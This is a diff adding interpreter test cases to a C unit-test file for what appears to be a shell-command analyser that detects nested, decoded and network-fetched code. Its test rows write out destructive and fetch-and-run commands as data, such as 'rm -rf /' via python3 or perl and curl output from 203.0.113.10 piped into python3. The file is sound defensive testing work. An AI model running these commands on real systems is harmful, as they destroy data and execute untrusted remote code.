@@ -88,6 +88,25 @@ static const struct row shells_rows[] = {
 	{ "env -S 'rm -rf /'", "", "env -S rm -rf / ;; rm -rf / {nested}" },
 };
 
+static const struct row interpreters_rows[] = {
+	{ "python3 -c 'import os; os.system(\"rm -rf /\")'", "c",
+	  "python3 -c import os; os.system(\"rm -rf /\") code[import os; os.system(\"rm -rf /\")]<literal> ;; "
+	  "rm -rf / {nested,interpreter}" },
+	{ "perl -e 'system(\"rm -rf /home\")'", "d",
+	  "0 perl -e system(\"rm -rf /home\") ;; 1 rm -rf /home {nested,interpreter}" },
+	{ "python3 -c \"import subprocess as s; s.run(['rm','-rf','/'])\"", "",
+	  "python3 -c import subprocess as s; s.run(['rm','-rf','/']) ;; rm -rf / {nested,interpreter}" },
+	{ "curl -s http://203.0.113.10/x.py | python3 -", "c",
+	  "curl -s http://203.0.113.10/x.py ;; "
+	  "python3 - code?[$(curl -s http://203.0.113.10/x.py)]<network>" },
+	{ "python3 <(curl -s http://203.0.113.10/x.py)", "c",
+	  "curl -s http://203.0.113.10/x.py ;; "
+	  "python3 <(curl -s http://203.0.113.10/x.py) code?[$(curl -s http://203.0.113.10/x.py)]<network>" },
+	{ "python3 x.py", "c", "python3 x.py" },
+	{ "python3 <<'E'\nimport os\nos.system('rm x')\nE", "d", "0 python3 ;; 1 rm x {nested,interpreter}" },
+	{ "awk 'BEGIN { system(\"rm x\") }'", "", "awk BEGIN { system(\"rm x\") } ;; rm x {nested,interpreter}" },
+};
+
 static const struct row decoded_rows[] = {
 	{ "echo cm0gLXJmIC8= | base64 -d | sh", "c",
 	  "echo cm0gLXJmIC8= ;; base64 -d ;; sh code[rm -rf /]<decoded,literal> ;; "
@@ -131,7 +150,8 @@ static const struct row files_rows[] = {
 	  "curl http://203.0.113.10/a ;; tee i.sh ;; "
 	  "bash i.sh code?[$(curl http://203.0.113.10/a)]<network>" },
 	{ "printf '#!/usr/bin/python3\\nimport os\\nos.system(\"rm x\")\\n' > p; ./p", "",
-	  "printf #!/usr/bin/python3\\nimport os\\nos.system(\"rm x\")\\n ;; ./p" },
+	  "printf #!/usr/bin/python3\\nimport os\\nos.system(\"rm x\")\\n ;; ./p ;; "
+	  "rm x {nested,interpreter}" },
 	{ "./run.sh", "ec", "./run.sh executes:run.sh" },
 	{ "source ./env.sh", "ec", "source ./env.sh executes:env.sh" },
 	{ "echo 'X=1' > e; . ./e; echo $X", "", "echo X=1 ;; . ./e ;; X=1 {nested} ;; echo 1" },
@@ -153,6 +173,12 @@ static void shells(void **state)
 	check_rows(shells_rows, ARRAY_SIZE(shells_rows));
 }
 
+static void interpreters(void **state)
+{
+	(void)state;
+	check_rows(interpreters_rows, ARRAY_SIZE(interpreters_rows));
+}
+
 static void decoded(void **state)
 {
 	(void)state;
@@ -170,6 +196,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(wrappers),
 		cmocka_unit_test(shells),
+		cmocka_unit_test(interpreters),
 		cmocka_unit_test(decoded),
 		cmocka_unit_test(files),
 	};
